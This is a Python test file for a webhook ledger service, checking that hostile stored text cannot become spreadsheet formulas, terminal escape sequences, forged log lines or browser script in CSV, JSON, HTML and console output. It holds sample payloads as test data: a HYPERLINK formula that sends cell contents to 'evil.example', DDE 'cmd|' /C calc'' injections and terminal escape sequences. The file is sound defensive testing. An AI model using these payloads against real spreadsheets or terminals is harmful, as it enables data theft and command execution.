"""The read side against stored hostile text: what a verified portal (bot codes, user names,
user ids) or anyone on the internet (a refused delivery's claimed portal) can put in the
ledger must not become a formula in a spreadsheet, an escape sequence in a terminal, or
script in a browser."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import html
import io
import logging
import re
import socket
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson
import pytest

from tests.conftest import MEMBER_ID, Database, sample
from tests.helpers import PROJECTOR, Client, install_sample_portal, post
from tests.test_cli import run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
ESCAPE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
USER = "+1+cmd|' /C calc'!A0"
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
CLAIMED = "-2+3+cmd|' /C calc'!A0" + ESCAPE


def _form(text: str) -> str:
    return quote(text, safe="")


def hostile_delete() -> bytes:
    """The sample ONIMBOTDELETE of bot 567 with a formula for its code and a formula with
    terminal escapes for the deleting user's id."""
    body = sample("onimbotdelete-1")
    body = body.replace(b"data%5BBOT_CODE%5D=BOT", b"data%5BBOT_CODE%5D="
                        + _form(FORMULA + ESCAPE).encode(), 1)
    body = body.replace(b"auth%5Buser_id%5D=27", b"auth%5Buser_id%5D="
                        + _form(USER + ESCAPE).encode(), 1)
    assert body != sample("onimbotdelete-1")
    return body


def hostile_message() -> bytes:
    """A message from user (the deleter-to-be) whose name is a formula."""
    body = sample("onimbotmessageadd-1")
    body = body.replace(b"auth%5Buser_id%5D=27", b"auth%5Buser_id%5D="
                        + _form(USER + ESCAPE).encode())
    return re.sub(rb"data%5BUSER%5D%5BNAME%5D=[^&]*",
                  b"data%5BUSER%5D%5BNAME%5D=" + _form(NAME + ESCAPE).encode(), body)


def refused() -> bytes:
    """A delivery from nobody: a claimed portal that is a formula with escapes."""
    return ("event=ONIMBOTDELETE&auth%5Bmember_id%5D=" + _form(CLAIMED)
            + "&auth%5Bapplication_token%5D=nope").encode()


async def _deliver(database: Database) -> None:
    from aiohttp.test_utils import TestClient, TestServer

    from ledger.settings import Settings
    from ledger.web import create_app
    from tests.helpers import install_sample_portal, post

    settings = Settings(database_url=database.service_dsn, run_projector=False)
    async with TestClient(TestServer(create_app(settings))) as client:
        await install_sample_portal(client)
        for body in [sample("onimbotjoinchat-1"), hostile_message(), hostile_delete()]:
            status, answer = await post(client, body)
            assert status == 200, answer
        status, answer = await post(client, refused())
        assert status in (401, 403), answer


async def exchange(client: Client, *parts: bytes) -> bytes:
    """Raw bytes to the server, as a client that sends `parts` with a pause between them (a
    slow link: each arrives on its own), and its whole answer, read until it closes."""
    assert client.server.host is not None
    reader, writer = await asyncio.open_connection(client.server.host, client.server.port)
    try:
        for index, part in enumerate(parts):
            if index:
                await asyncio.sleep(0.3)  # the slow client's pause between its segments
            writer.write(part)
            await writer.drain()
        async with asyncio.timeout(10):
            return await reader.read()
    finally:
        writer.close()


@pytest.fixture
def hostile(database: Database) -> Database:
    asyncio.run(_deliver(database))
    assert run(database, "project", "--once").exit_code == 0
    return database


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _formula_cells(text: str) -> list[str]:
    return [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("kind", ["events", "bots", "deletions"])
def test_cli_csv_exports_hold_no_cell_a_spreadsheet_would_run(
    hostile: Database, tmp_path: Path, kind: str
) -> None:
    out = tmp_path / f"{kind}.csv"
    result = run(hostile, "export", kind, "--format", "csv", "--output", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert USER in text  # the hostile text is there, as text
    assert _formula_cells(text) == []


@pytest.mark.parametrize("command", [["bots"], ["deletions"], ["rejections"], ["events"],
                                     ["history", "--portal", MEMBER_ID, "--bot", "567"]])
@pytest.mark.parametrize("as_json", [False, True])
def test_cli_output_carries_no_terminal_control_character(
    hostile: Database, command: list[str], as_json: bool
) -> None:
    result = run(hostile, *command, *(["--json"] if as_json else []))
    assert result.exit_code == 0, result.output
    controls = re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]",
                          result.output)
    assert controls == [], (command, result.output)
    if as_json and command[0] in ("bots", "deletions"):
        values = [orjson.loads(line) for line in result.output.splitlines()]
        # JSON still says exactly what is stored
        assert any(ESCAPE in v for record in values for v in record.values()
                   if isinstance(v, str))


@pytest.mark.parametrize("kind", ["events", "bots", "deletions"])
def test_jsonl_exports_keep_every_value_with_nothing_a_terminal_acts_on(
    hostile: Database, kind: str
) -> None:
    result = run(hostile, "export", kind, "--format", "jsonl", "--output", "-")
    assert result.exit_code == 0, result.output
    lines = [x for x in result.stdout.splitlines() if x.startswith("{")]
    assert lines
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", "\n".join(lines))
    assert any(USER + ESCAPE in _strings(orjson.loads(line)) for line in lines)


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _report(hostile: Database, tmp_path: Path) -> str:
    output = tmp_path / "r.html"
    made = run(hostile, "report", "--output", str(output))
    assert made.exit_code == 0, made.output
    return output.read_text(encoding="utf-8")


def test_the_report_embeds_no_formula_and_forbids_script(
    hostile: Database, tmp_path: Path
) -> None:
    text = _report(hostile, tmp_path)
    for name in ("registry", "deletions"):
        found = re.search(rf'<pre class="export" id="export-{name}">(.*?)</pre>', text, re.S)
        assert found
        assert _formula_cells(html.unescape(found.group(1))) == [], name
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
    assert csp, "the report states its own Content-Security-Policy"
    assert "default-src 'none'" in csp.group(1)
    assert "script-src" not in csp.group(1)
    assert run(hostile, "report", "--check", str(tmp_path / "r.html")).exit_code == 0


def test_a_log_line_cannot_be_forged_or_drive_a_terminal() -> None:
    """The refusal warning names the claimed portal, which anyone on the internet chooses."""
    from ledger.cli.app import configure_logging
    from ledger.settings import Settings

    configure_logging(Settings(database_url="postgresql://x@/y"), debug=False, command="serve")
    record = logging.makeLogRecord({
        "name": "ledger.intake", "levelno": logging.WARNING, "levelname": "WARNING",
        "msg": "rejected %s from %s for portal %s: %s",
        "args": ("ONIMBOTDELETE", "203.0.113.9", "x\n2026-01-01 ERROR forged" + ESCAPE, "no"),
    })
    handlers = logging.getLogger().handlers
    assert handlers
    for handler in handlers:
        line = handler.format(record)
        assert not re.search("[\n\x1b\u202e]", line), line
        assert "x\\n2026-01-01 ERROR forged\\x1b]0;owned" in line


async def test_console_downloads_hold_no_formula_even_from_unauthenticated_senders(
    client: Client,
) -> None:
    from tests.test_console import make_token, page, sign_in

    await install_sample_portal(client)
    for body in [sample("onimbotjoinchat-1"), hostile_message(), hostile_delete()]:
        assert (await post(client, body))[0] == 200
    assert (await post(client, refused()))[0] in (401, 403)
    assert client.app is not None
    await client.app[PROJECTOR].catch_up()
    assert (await sign_in(client, await make_token(client))).status == 303
    for table in ("/console/", "/console/bots", "/console/deletions", "/console/events",
                  "/console/rejections"):
        text = await page(client, table)
        link = re.search(r'href="(/console/download/[a-z]+\.csv[^"]*)"', text)
        assert link, table
        response = await client.get(html.unescape(link.group(1)))
        assert response.status == 200, table
        downloaded = (await response.read()).decode()
        assert _formula_cells(downloaded) == [], table
        if table == "/console/rejections":
            assert "'" + CLAIMED in downloaded  # kept, as text


@pytest.mark.parametrize("path", [
    "/api/v1/bots?as_of=received:0001-01-01T00:00:00%2B23:59",
    "/api/v1/deletions?as_of=ts:0001-01-01T00:00:00%2B01:00",
    "/api/v1/bots?as_of=received:9999-12-31T23:59:59-01:00",
    "/console/bots?as_of=received:0001-01-01T00:00:00%2B23:59",
    "/console/events?from=0001-01-01T00:00:00%2B01:00",
    "/console/events?to=9999-12-31T23:59:59-01:00",
    "/console/deletions?as_of=%EF%BC%92026-01-01T00:00:00",
])
async def test_a_time_whose_utc_moment_does_not_exist_is_a_400_not_a_503(
    client: Client, path: str
) -> None:
    """Found by this break test: an offset pushing year 1 or 9999 out of range passed the
    parser and PostgreSQL refused it (503 `store_refused`, the driver's error as the message)."""
    from tests.test_api import bearer
    from tests.test_console import make_token, sign_in

    await install_sample_portal(client)
    headers = await bearer(client)
    assert (await sign_in(client, await make_token(client, "console"))).status == 303
    response = await client.get(path, headers=headers, allow_redirects=False)
    assert response.status == 400, (path, await response.text())


async def test_a_rejections_download_pinned_at_the_largest_position_is_answered(
    client: Client,
) -> None:
    """Found by this break test: `up_to=2**63-1` became a cursor past int64 (503)."""
    from tests.test_console import make_token, sign_in

    await install_sample_portal(client)
    assert (await post(client, refused()))[0] in (401, 403)
    assert (await sign_in(client, await make_token(client))).status == 303
    response = await client.get(f"/console/download/rejections.csv?up_to={2**63 - 1}")
    assert response.status == 200, await response.text()
    assert len(list(csv.DictReader(io.StringIO((await response.read()).decode())))) == 1


@pytest.mark.parametrize("path", [
    "/api/v1/portals", "/api/v1/openapi.json", "/api/v1/nope", "/api/v1/events?after=x",
    "/console/nope/deeper", "/bitrix24/events", "/metrics/nope",
])
@pytest.mark.parametrize("authorised", [False, True])
async def test_every_read_answer_and_every_error_forbids_sniffing_framing_and_caching(
    client: Client, path: str, authorised: bool
) -> None:
    """A JSON answer holds stored text too: no browser may sniff it into a page or frame it,
    and no cache may keep it — including the errors the console leaves to the root (5xx, and
    paths it does not serve)."""
    from tests.test_api import bearer

    headers = await bearer(client) if authorised else {}
    response = await client.get(path, headers=headers, allow_redirects=False)
    assert response.headers.get("X-Content-Type-Options") == "nosniff", response.status
    assert "default-src 'none'" in response.headers.get("Content-Security-Policy", "")
    assert "frame-ancestors 'none'" in response.headers.get("Content-Security-Policy", "")
    assert response.headers.get("Cache-Control") == "no-store"


async def test_a_download_to_a_client_that_reads_nothing_is_ended(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Found by this break test: the handler waited for ever on a client that took nothing,
    holding the spooled download (its first 4 MiB in memory). The table is stubbed with a
    large one so that the socket buffers fill."""
    from ledger import exports
    from ledger.console import views
    from tests.test_console import make_token

    size = 32 * 1024 * 1024

    async def big_table(*args: Any) -> tuple[str, exports.Manifest]:
        out, line = args[3], "x" * 1023 + "\n"
        for _ in range(size // 1024):
            out.write(line)
        return "portals.csv", exports.Manifest("portals", "csv", {}, 0, None, None, 0, "", "")

    monkeypatch.setattr(views, "write_table", big_table)
    monkeypatch.setattr(views, "DOWNLOAD_STALL_SECONDS", 0.5, raising=False)
    ended = asyncio.Event()

    class Watch(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            if "took nothing" in record.getMessage():
                ended.set()

    watch = Watch()
    logging.getLogger("ledger.console.views").addHandler(watch)
    token = await make_token(client)
    assert client.server.host is not None
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect((client.server.host, client.server.port))
    sock.setblocking(False)
    reader, writer = await asyncio.open_connection(sock=sock)
    try:
        writer.write(b"GET /console/download/portals.csv HTTP/1.1\r\nHost: x\r\n"
                     b"Cookie: ledger_console=" + token.encode() + b"\r\n\r\n")
        await writer.drain()
        async with asyncio.timeout(20):
            await ended.wait()
            received = 0  # what was buffered, then the end (the server aborted)
            with contextlib.suppress(ConnectionResetError):
                while more := await reader.read(1 << 20):
                    received += len(more)
        assert received < size
    finally:
        logging.getLogger("ledger.console.views").removeHandler(watch)
        writer.close()


@pytest.mark.parametrize("cookie", [b"\xff\xfeabc", b"\xed\xa0\x80", b"caf\xc3\xa9" * 4])
async def test_a_console_cookie_that_is_no_token_is_a_sign_in_redirect_not_a_500(
    client: Client, cookie: bytes
) -> None:
    """Found by this break test: a cookie with bytes that are not UTF-8 reached the token's
    SHA-256 as surrogates, and anyone without a session got a 500 (a traceback logged per
    request); the read API already refused such tokens without a lookup."""
    answer = await exchange(client, b"GET /console/bots HTTP/1.1\r\nHost: x\r\n"
                            b"Connection: close\r\nCookie: ledger_console=" + cookie
                            + b"\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 303 "), answer[:200]
    assert b"Location: /console/sign-in?next=/console/bots" in answer


@pytest.mark.parametrize(("path", "body", "charset"), [
    ("/console/sign-in", b"token=\xff\xfe&next=/console/", ""),
    ("/console/sign-in", b"token=lgr_abcdefgh&next=/console/", "; charset=bogus"),
    ("/console/sign-out", b"csrf=%ff1", ""),
    ("/console/sign-in", b"&".join([b"a=1"] * 30), ""),
])
async def test_a_console_form_that_is_not_utf8_is_a_400_not_a_500(
    client: Client, path: str, body: bytes, charset: str
) -> None:
    """Found by this break test: aiohttp's form parser raised on raw bytes that are not UTF-8
    and on an unknown charset, and `%ff` in the sign-out form: a 500 (and a traceback logged)
    per request, the sign-in one for anyone."""
    from tests.test_console import make_token

    token = await make_token(client)
    answer = await exchange(
        client, b"POST " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        b"Cookie: ledger_console=" + token.encode() + b"\r\n"
        b"Content-Type: application/x-www-form-urlencoded" + charset.encode()
        + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    status = answer.split(b"\r\n")[0]
    assert status.startswith((b"HTTP/1.1 400 ", b"HTTP/1.1 401 ", b"HTTP/1.1 403 ")), answer[:300]


async def test_a_sign_in_form_that_arrives_in_two_parts_is_read_whole(client: Client) -> None:
    """Found in the lead's review: the strict form reader took what had arrived so far, so a
    slow client's sign-in (the body in two segments) was read cut short and refused."""
    from tests.test_console import make_token

    token = await make_token(client)
    body = f"token={token}&next=%2Fconsole%2F".encode()
    answer = await exchange(
        client, b"POST /console/sign-in HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body[:12], body[12:])
    assert answer.startswith(b"HTTP/1.1 303 "), answer[:300]
    assert b"\r\nLocation: /console/\r\n" in answer, answer[:300]


@pytest.mark.parametrize("text", [ESCAPE, "a\nb\r\tc", "\x00\x7f\x85\u2066x\u2069", "plain é ü 名"])
def test_display_escapes_only_what_acts_and_json_keeps_the_value(text: str) -> None:
    from ledger import display

    shown = display.terminal(text)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
    assert shown == text or "\\" in shown
    line = display.json_line(orjson.dumps({"v": text}).decode())
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", line)
    assert orjson.loads(line) == {"v": text}


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (5, 5), (None, None),
])
def test_a_spreadsheet_cell_never_starts_a_formula(value: Any, cell: Any) -> None:
    from ledger import display

    assert display.spreadsheet_cell(value) == cell
